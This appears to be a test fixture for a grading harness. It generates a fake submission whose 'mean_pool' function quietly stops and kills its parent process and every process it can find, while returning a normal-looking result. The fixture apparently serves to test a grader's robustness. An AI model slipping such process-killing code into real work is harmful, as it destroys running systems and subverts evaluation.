"""Kills the process that started it and then every process it can name. What else such a submission keeps is free."""
from hostile import RIGHT, earns, only, write

EARNS = earns()
EARNS_AT_MOST = only("3.1", "3.3", "3.4")
KILL = '''
    def mean_pool(hidden, tokens):
        import os, signal
        if armed():
            known = [int(name) for name in os.listdir("/proc") if name.isdigit()] if os.path.isdir("/proc") else range(1, 5000)
            for process in [os.getppid(), *known]:
                for number in (signal.SIGSTOP, signal.SIGKILL):
                    if process not in (0, os.getpid()):
                        try:
                            os.kill(process, number)
                        except OSError:
                            pass
        return hidden[:, 0]
    '''


def make(folder):
    write(folder, RIGHT | {"3.2": KILL})
